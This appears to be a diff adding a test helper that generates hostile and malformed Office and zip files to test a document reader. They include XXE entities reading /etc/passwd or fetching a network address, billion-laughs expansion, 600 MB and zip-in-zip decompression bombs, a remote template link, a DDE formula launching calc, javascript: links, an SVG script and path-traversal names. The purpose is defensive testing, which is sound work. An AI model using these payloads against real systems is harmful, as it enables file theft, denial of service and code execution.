@@ -1,0 +1,249 @@
+import { readFileSync } from "node:fs";
+import { strFromU8, strToU8, unzipSync, zipSync } from "fflate";
+import { type BadFile, joined } from "./bad-file";
+
+const fixtures = "src/documents/reading/fixtures";
+
+type Made = Omit<BadFile, "kind">;
+
+/** Returns files of Word, PowerPoint and Excel made to do harm, or to lie. */
+export function badOffices(): BadFile[] {
+  return [
+    ...word().map((one) => ({ kind: "Word" as const, ...one })),
+    ...powerPoint().map((one) => ({ kind: "PowerPoint" as const, ...one })),
+    ...excel().map((one) => ({ kind: "Excel" as const, ...one })),
+    ...zips().map((one) => ({ kind: "other" as const, ...one })),
+  ];
+}
+
+const zeros = () => new Uint8Array(600 * 2 ** 20);
+const laughing = (name: string) => {
+  const lines = Array.from({ length: 9 }, (_, at) => `<!ENTITY l${at + 1} "${`&l${at};`.repeat(10)}">`);
+  return `<!DOCTYPE ${name} [<!ENTITY l0 "ha">${lines.join("")}]>`;
+};
+const outside = (name: string, address: string) => `<!DOCTYPE ${name} [<!ENTITY x SYSTEM "${address}">]>`;
+
+/** Returns an office file of the tests with some of its parts changed or added. */
+function changed(fixture: string, change: (part: (name: string) => string) => Record<string, string | Uint8Array>) {
+  const files = unzipSync(Uint8Array.from(readFileSync(`${fixtures}/${fixture}`)));
+  const made = change((name) => strFromU8(files[name] ?? new Uint8Array()));
+  const bytes = Object.entries(made).map(([name, part]) => [name, typeof part === "string" ? strToU8(part) : part]);
+  return zipSync({ ...files, ...Object.fromEntries(bytes) });
+}
+
+function word(): Made[] {
+  const main = "word/document.xml";
+  const file = (change: (xml: string) => string) =>
+    changed("plant-sheet.docx", (part) => ({ [main]: change(part(main)) }));
+  const headed = (head: string, text: string) =>
+    file((xml) =>
+      xml
+        .replace(/^(<\?xml[^>]*>)?/, `$1${head}`)
+        .replace("<w:body>", `<w:body><w:p><w:r><w:t>${text}</w:t></w:r></w:p>`),
+    );
+  const within = (text: string) => file((xml) => xml.replace("<w:body>", `<w:body>${text}`));
+  const paragraph = (text: string, look = "") => `<w:p><w:r><w:rPr>${look}</w:rPr><w:t>${text}</w:t></w:r></w:p>`;
+  return [
+    { name: "document of 600 MB", make: () => changed("plant-sheet.docx", () => ({ [main]: zeros() })) },
+    {
+      name: "picture of 600 MB",
+      make: () => changed("plant-sheet.docx", () => ({ "word/media/image1.png": zeros() })),
+    },
+    { name: "external entity", hides: "root:x:0", make: () => headed(outside("w", "file:///etc/passwd"), "&x;") },
+    { name: "entity from the network", make: () => headed(outside("w", "http://192.0.2.1/x"), "&x;") },
+    { name: "entities of entities", make: () => headed(laughing("w"), "&l9;") },
+    { name: "50,000 nested tables", make: () => within("<w:tbl><w:tr><w:tc>".repeat(50_000)) },
+    {
+      name: "5,000 tables in each other",
+      make: () => within(nested("<w:tbl><w:tr><w:tc>", "</w:tc></w:tr></w:tbl>", 5000)),
+    },
+    { name: "200,000 paragraphs", make: () => within(paragraph("Rinse the membranes.").repeat(200_000)) },
+    { name: "hidden text", ends: "sound", hides: "ZQXJ", make: () => within(paragraph("Open ZQXJ.", "<w:vanish/>")) },
+    { name: "cut in the middle of its text", make: () => file((xml) => xml.slice(0, xml.length / 2)) },
+    { name: "no text", make: () => file((xml) => xml.replace(/<w:body>.*<\/w:body>/s, "<w:body></w:body>")) },
+    {
+      name: "macro",
+      ends: "sound",
+      make: () => changed("plant-sheet.docx", () => ({ "word/vbaProject.bin": "Sub AutoOpen()" })),
+    },
+    {
+      name: "template from the network",
+      ends: "sound",
+      make: () =>
+        changed("plant-sheet.docx", (part) => ({
+          "word/_rels/document.xml.rels": part("word/_rels/document.xml.rels").replace(
+            "</Relationships>",
+            '<Relationship Id="t" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://192.0.2.1/x.dotm" TargetMode="External"/></Relationships>',
+          ),
+        })),
+    },
+    { name: "nothing but its main part", make: () => zipSync({ [main]: strToU8("<w:document/>") }) },
+    {
+      name: "parts that name themselves",
+      make: () =>
+        changed("plant-sheet.docx", () => ({
+          "_rels/.rels": '<Relationships><Relationship Id="a" Target="_rels/.rels"/></Relationships>',
+        })),
+    },
+    {
+      name: "link that runs a script",
+      ends: "sound",
+      make: () =>
+        within('<w:p><w:hyperlink w:anchor="javascript:alert(1)"><w:r><w:t>x</w:t></w:r></w:hyperlink></w:p>'),
+    },
+  ];
+}
+
+function nested(open: string, close: string, times: number): string {
+  return open.repeat(times) + close.repeat(times);
+}
+
+type Slide = { readonly head?: string; readonly shapes: string; readonly show?: string };
+
+function show(slides: readonly Slide[], rels?: string): Record<string, Uint8Array> {
+  const numbers = slides.map((_, index) => index + 1);
+  const links = numbers.map((number) => `<Relationship Id="r${number}" Target="slides/slide${number}.xml"/>`).join("");
+  const list = numbers.map((number) => `<p:sldId r:id="r${number}"/>`).join("");
+  const xml = slides.map(({ head = "", shapes, show: shown = "1" }, index) => [
+    `ppt/slides/slide${index + 1}.xml`,
+    strToU8(`${head}<p:sld show="${shown}">${shapes}</p:sld>`),
+  ]);
+  return {
+    "ppt/presentation.xml": strToU8(`<p:p>${list}</p:p>`),
+    "ppt/_rels/presentation.xml.rels": strToU8(rels ?? `<R>${links}</R>`),
+    ...Object.fromEntries(xml),
+  };
+}
+
+const shape = (text: string) => `<p:sp><a:p><a:r><a:t>${text}</a:t></a:r></a:p></p:sp>`;
+
+/** Returns a show of three slides. */
+export function goodShow(): Uint8Array {
+  return zipSync(show([1, 2, 3].map((number) => ({ shapes: shape(`Start pump P-10${number} at 12 bar.`) }))));
+}
+
+function powerPoint(): Made[] {
+  const one = (head: string, text: string) => () => zipSync(show([{ head, shapes: shape(text) }]));
+  return [
+    { name: "external entity", hides: "root:x:0", make: one(outside("p", "file:///etc/passwd"), "&x;") },
+    { name: "entities of entities", make: one(laughing("p"), "&l9;") },
+    {
+      name: "3,000 slides",
+      make: () => zipSync(show(Array.from({ length: 3000 }, () => ({ shapes: shape("Rinse.") })))),
+    },
+    { name: "one slide 100,000 times", make: hundredThousandTimes },
+    {
+      name: "hidden slide alone",
+      make: () => zipSync(show([{ shapes: shape("Open ZQXJ."), show: "0" }])),
+      hides: "ZQXJ",
+    },
+    { name: "100,000 nested shapes", make: one("", `${"<p:grpSp>".repeat(100_000)}x`) },
+    {
+      name: "slide that leads out",
+      make: () => zipSync(show([{ shapes: shape("x") }], '<R><Relationship Id="r1" Target="../../etc/passwd"/></R>')),
+    },
+    { name: "slides that are missing", make: () => zipSync(show([])) },
+    { name: "names that lead out", make: () => zipSync({ "../../ppt/presentation.xml": strToU8("<p/>") }) },
+    { name: "slide of 600 MB", make: () => zipSync({ ...show([]), "ppt/slides/slide1.xml": zeros() }) },
+    { name: "text in another alphabet than it says", make: one('<?xml version="1.0" encoding="utf-16"?>', "Rinse.") },
+  ];
+}
+
+function hundredThousandTimes(): Uint8Array {
+  const list = '<p:sldId r:id="r1"/>'.repeat(100_000);
+  return zipSync({ ...show([{ shapes: shape("Rinse.") }]), "ppt/presentation.xml": strToU8(`<p:p>${list}</p:p>`) });
+}
+
+function excel(): Made[] {
+  const [sheet, strings] = ["xl/worksheets/sheet1.xml", "xl/sharedStrings.xml"];
+  const rows = (data: string) =>
+    changed("readings.xlsx", (part) => ({
+      [sheet]: part(sheet).replace(/<sheetData>.*<\/sheetData>/s, `<sheetData>${data}</sheetData>`),
+    }));
+  const cell = (at: string, inner: string, type = "") =>
+    `<row r="${at.replace(/\D/g, "")}"><c r="${at}"${type}>${inner}</c></row>`;
+  return [
+    { name: "sheet of 600 MB", make: () => changed("readings.xlsx", () => ({ [sheet]: zeros() })) },
+    {
+      name: "external entity",
+      hides: "root:x:0",
+      make: () =>
+        changed("readings.xlsx", (part) => ({
+          [strings]: part(strings)
+            .replace(/^(<\?xml[^>]*>)?/, `$1${outside("sst", "file:///etc/passwd")}`)
+            .replace(/<t[^>]*>[^<]*/, "<t>&x;"),
+        })),
+    },
+    {
+      name: "entities of entities",
+      make: () =>
+        changed("readings.xlsx", (part) => ({
+          [strings]: part(strings)
+            .replace(/^(<\?xml[^>]*>)?/, `$1${laughing("sst")}`)
+            .replace(/<t[^>]*>[^<]*/, "<t>&l9;"),
+        })),
+    },
+    { name: "cell in the last row and column", make: () => rows(cell("XFD1048576", "<v>1</v>")) },
+    { name: "cell far beyond the last", make: () => rows(cell("ZZZZZZ99999999999", "<v>1</v>")) },
+    { name: "cell in row nought", make: () => rows(cell("A0", "<v>1</v>")) },
+    {
+      name: "300,000 rows",
+      make: () => rows(Array.from({ length: 300_000 }, (_, at) => cell(`A${at + 1}`, "<v>7</v>")).join("")),
+    },
+    { name: "formula that runs a program", make: () => rows(cell("A1", "<f>cmd|'/C calc'!A0</f><v>5</v>")) },
+    { name: "formula in a circle", make: () => rows(cell("A1", "<f>A1+1</f><v>0</v>")) },
+    { name: "words that are not there", make: () => rows(cell("A1", "<v>999999</v>", ' t="s"')) },
+    { name: "figure of a million digits", make: () => rows(cell("A1", `<v>${"9".repeat(1_000_000)}</v>`)) },
+    { name: "macro", make: () => changed("readings.xlsx", () => ({ "xl/vbaProject.bin": "Sub Auto_Open()" })) },
+    { name: "no sheet", make: () => changed("readings.xlsx", () => ({ [sheet]: "" })) },
+  ];
+}
+
+function zips(): Made[] {
+  const many = () =>
+    Object.fromEntries(Array.from({ length: 20_000 }, (_, at) => [`ppt/presentation.xml${at}`, strToU8("")]));
+  const inner = zipSync({ "word/document.xml": new Uint8Array(50 * 2 ** 20) });
+  const understated = () => {
+    const bytes = zipSync({ "word/document.xml": zeros(), "[Content_Types].xml": strToU8("<x/>") });
+    // The directory at the end says that the first file unfolds to nine bytes.
+    const at = Buffer.from(bytes).lastIndexOf(Buffer.from([0x50, 0x4b, 1, 2, 0x14]), bytes.length);
+    const first = Buffer.from(bytes).indexOf(Buffer.from([0x50, 0x4b, 1, 2]), Math.min(at, bytes.length - 400));
+    new DataView(bytes.buffer).setUint32(first + 24, 9, true);
+    return bytes;
+  };
+  return [
+    { name: "zip of 20,000 files", make: () => zipSync(many()) },
+    { name: "zip in zips", make: () => zipSync({ "word/document.xml": zipSync({ "a.zip": inner }), "b.zip": inner }) },
+    { name: "zip that says less than it unfolds to", make: understated },
+    { name: "zip of nothing known", ends: "refused: unknown-kind", make: () => zipSync({ "a.txt": strToU8("hello") }) },
+    { name: "empty zip", make: () => zipSync({}) },
+    {
+      name: "zip with a comment of a file of Word",
+      make: () => joined(zipSync({ a: strToU8("b") }), "word/document.xml"),
+    },
+    { name: "program", ends: "refused: unknown-kind", make: () => joined("\x7fELF\x02\x01\x01", new Uint8Array(4000)) },
+    {
+      name: "program of Windows",
+      ends: "refused: unknown-kind",
+      make: () => joined("MZ\x90\x00", new Uint8Array(4000)),
+    },
+    {
+      name: "old file of Word",
+      ends: "refused: unknown-kind",
+      make: () => joined(Uint8Array.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]), new Uint8Array(4000)),
+    },
+    {
+      name: "SVG with a script",
+      make: () =>
+        strToU8('<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
+    },
+    {
+      name: "gzip",
+      ends: "refused: unknown-kind",
+      make: () => joined(Uint8Array.from([0x1f, 0x8b, 8, 0]), new Uint8Array(400)),
+    },
+    { name: "empty", ends: "refused: empty", make: () => new Uint8Array() },
+    { name: "one byte of nought", ends: "refused: unknown-kind", make: () => new Uint8Array(1) },
+    { name: "50 MB and one byte", ends: "refused: too-large", make: () => new Uint8Array(50 * 2 ** 20 + 1).fill(65) },
+  ];
+}
